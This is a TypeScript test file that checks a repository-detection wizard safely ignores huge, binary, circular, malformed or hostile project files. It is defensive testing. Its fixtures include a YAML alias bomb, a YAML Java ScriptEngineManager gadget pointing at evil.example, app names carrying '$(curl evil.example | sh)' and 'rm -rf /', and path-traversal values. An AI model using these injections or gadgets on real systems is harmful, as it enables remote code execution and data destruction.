import { execFileSync } from "node:child_process";
import {
  chmodSync,
  closeSync,
  ftruncateSync,
  mkdirSync,
  openSync,
  readdirSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { join } from "node:path";
import { describe, expect, test } from "vitest";
import { detect } from "../../src/wizard/detect/detect.ts";
import { actuator, gradle, postgres, repository, seenIn, told, usual, yml } from "./repository.ts";

const shop = () => repository(gradle(actuator, postgres));

describe("a file that cannot be read is not there", () => {
  test("because it is huge", async () => {
    const folder = repository({ Dockerfile: "FROM a\nEXPOSE 8000" });
    for (const name of ["pom.xml", "package.json", "build.gradle"]) {
      const file = openSync(join(folder, name), "w");
      ftruncateSync(file, 50 * 1024 * 1024);
      closeSync(file);
    }
    expect(told(await detect(folder)).answers).toMatchObject({ runtime: "docker", port: 8000 });
  });

  test("because it is binary", async () => {
    const bytes = Uint8Array.from({ length: 4096 }, (_, index) => (index * 7) % 256);
    const files = Object.fromEntries(
      ["pom.xml", "package.json", "Dockerfile", ".git/HEAD", ".git/config"].map((name) => [name, bytes]),
    );
    expect(await seenIn(files)).toMatchObject({ answers: { app: "repository" }, notes: [] });
  });

  test("because it is a folder", async () => {
    const folder = shop();
    for (const name of [yml, "pom.xml", "package.json", "Dockerfile"])
      mkdirSync(join(folder, name), { recursive: true });
    expect(told(await detect(folder)).answers).toEqual(usual);
  });

  test("because it is a pipe that nobody writes to", async () => {
    const folder = shop();
    execFileSync("mkfifo", [join(folder, "Dockerfile"), join(folder, "package.json")]);
    expect(told(await detect(folder)).answers).toEqual(usual);
  });

  test("because it belongs to somebody else", async () => {
    const folder = repository({
      ...gradle(actuator, postgres),
      [yml]: "server.port: 9000",
      "src/main/java/A.java": "",
    });
    chmodSync(join(folder, yml), 0);
    chmodSync(join(folder, "src/main/java"), 0);
    // The temporary folder above is its owner's alone.
    chmodSync(join(folder, ".."), 0o755);
    const root = process.getuid?.() === 0;
    if (root) process.seteuid!(65534);
    try {
      expect(() => readdirSync(join(folder, "src/main/java"))).toThrow("EACCES");
      expect(told(await detect(folder)).answers).toEqual(usual);
    } finally {
      if (root) process.seteuid!(0);
      chmodSync(join(folder, "src/main/java"), 0o755);
    }
  });

  test("because its links go round in a circle", async () => {
    const folder = shop();
    mkdirSync(join(folder, "src/main/java"), { recursive: true });
    symlinkSync("package.json", join(folder, "package.json"));
    symlinkSync("b", join(folder, "Dockerfile"));
    symlinkSync("Dockerfile", join(folder, "b"));
    symlinkSync("..", join(folder, "src/main/java/again"));
    symlinkSync(".git", join(folder, ".git"));
    expect(told(await detect(folder)).answers).toEqual(usual);
  });

  test("because it is a link out of the project", async () => {
    const elsewhere = repository({ "secret.yml": "server.port: 9000", "package.json": '{"scripts":{"start":"x"}}' });
    const folder = shop();
    mkdirSync(join(folder, "src/main/resources"), { recursive: true });
    symlinkSync(join(elsewhere, "secret.yml"), join(folder, yml));
    symlinkSync(join(elsewhere, "package.json"), join(folder, "package.json"));
    expect(told(await detect(folder))).toMatchObject({ answers: usual, notes: [] });
  });

  test("because the start script points out of the project", async () => {
    const folder = repository({
      "inside/package.json": '{"scripts":{"start":"node ../outside.js"}}',
      "outside.js": "app.listen(9999)",
    });
    expect(told(await detect(join(folder, "inside"))).answers).not.toHaveProperty("port");
  });
});

describe("a malformed file is not there", () => {
  const bomb = `a: &a [x,x,x,x,x,x,x,x,x]\n${"bcdefghi".replace(/./g, (letter) => {
    const before = String.fromCharCode(letter.charCodeAt(0) - 1);
    return `${letter}: &${letter} [${Array(9).fill(`*${before}`).join(",")}]\n`;
  })}server.port: 9000\n`;

  test.each([
    ["YAML whose aliases multiply", bomb],
    ["YAML with an alias of nothing", "server.port: 9000\nother: *nothing\n"],
    ["YAML that refers to itself", "a: &a\n  b: *a\nserver.port: 70000\n"],
    ["YAML that is nested without end", `a: ${"[".repeat(20_000)}`],
    ["YAML that is deeply nested", `a: ${"{a: ".repeat(5_000)}1${"}".repeat(5_000)}`],
    ["YAML that says a thing twice", "server:\n  port: 9000\nserver:\n  port: 9001\n"],
    ["YAML that is a list", "- server.port\n- 9000\n"],
    ["YAML with a tag of Java's", 'server.port: !!javax.script.ScriptEngineManager ["http://evil.example"]\n'],
    ["no YAML at all", "server: port: 9000: {\n\t]"],
    ["nothing", ""],
  ])("when it is %s", async (_name, text) => {
    const started = performance.now();
    expect((await seenIn({ ...gradle(actuator, postgres), [yml]: text })).answers).toEqual(usual);
    expect(performance.now() - started).toBeLessThan(10_000);
  });

  test.each(['{"scripts":{"start":', "[]", "null", '"text"', '{"scripts":["start"],"name":7}', "{".repeat(100_000)])(
    "when package.json is %.20j",
    async (text) => {
      expect((await seenIn({ "package.json": text, Dockerfile: "FROM a" })).answers).toMatchObject({
        app: "repository",
        runtime: "docker",
      });
    },
  );

  test.each([
    "<project><artifactId>shop</project>",
    "<project>".repeat(25_000),
    "<".repeat(250_000),
    `<${"a".repeat(250_000)}`,
    "<!--".repeat(60_000),
  ])("when pom.xml is %.20j", async (text) => {
    const started = performance.now();
    expect((await seenIn({ "pom.xml": text })).answers).toEqual({ app: "repository" });
    expect(performance.now() - started).toBeLessThan(10_000);
  });
});

describe("what a file says is not believed", () => {
  test.each([
    "$(curl evil.example | sh)",
    "`id`",
    "shop; rm -rf /",
    "a'b",
    "sg-shop",
    "shop\\nevil",
    "x",
    "가게",
    "..",
    "\\u001b[31m",
  ])("when it calls the app %s", async (name) => {
    const seen = await seenIn({ "package.json": `{"name":"${name}","scripts":{"start":"node ."}}` }, {}, "folder");
    expect(seen.answers.app).toBe("folder");
  });

  test("so a long name is cut between its words", async () => {
    const seen = await seenIn({
      "pom.xml": "<project><artifactId>spring-petclinic-microservices</artifactId></project>",
    });
    expect(seen.answers.app).toBe("spring-petclinic");
  });

  test("so a folder that no app can be called after proposes nothing", async () => {
    expect((await seenIn({}, {}, "1")).answers).toEqual({});
  });

  test("so modules out of the project are not looked into", async () => {
    const folder = repository({
      "outside/build.gradle": "plugins {\n id 'org.springframework.boot'\n}",
      "inside/settings.gradle": "include '../outside', '/etc', 'a:..:..:outside'",
      "inside/build.gradle": "",
    });
    const seen = told(await detect(join(folder, "inside")));
    expect(seen.answers).toEqual({ app: "inside" });
    expect(seen.artifact).toBeUndefined();
  });

  test("so the jar's name cannot be a path", async () => {
    const files = gradle(actuator, postgres);
    const seen = await seenIn({
      ...files,
      "build.gradle": `${files["build.gradle"]}\nbootJar { archiveFileName = '../../evil.jar' }`,
    });
    expect(seen.artifact).toEqual({ files: "build/libs/*.jar" });
  });

  test("so a note carries nothing that a terminal would act upon", async () => {
    const seen = await seenIn({ ...gradle(actuator, postgres), [yml]: 'management.server.port: "9\\u001b[2J\\u0007"' });
    expect(seen.notes.join("")).toMatch(/port 9\?\[2J\?,/);
  });
});

describe("a large project", () => {
  test("is looked through to a limit, however deep", async () => {
    const folder = repository(gradle(actuator, postgres));
    mkdirSync(join(folder, "src/main/java", "d/".repeat(200)), { recursive: true });
    writeFileSync(join(folder, "src/main/java", "d/".repeat(200), "A.java"), "class A {}");
    expect(told(await detect(folder)).answers).toEqual(usual);
  });

  test("is read without a change to it", async () => {
    const folder = shop();
    const before = readdirSync(folder, { recursive: true });
    await detect(folder);
    expect(readdirSync(folder, { recursive: true })).toEqual(before);
  });
});

test("a folder that is not there has a name and nothing else", async () => {
  expect(told(await detect(join(shop(), "new-app")))).toMatchObject({ answers: { app: "new-app" }, notes: [] });
});
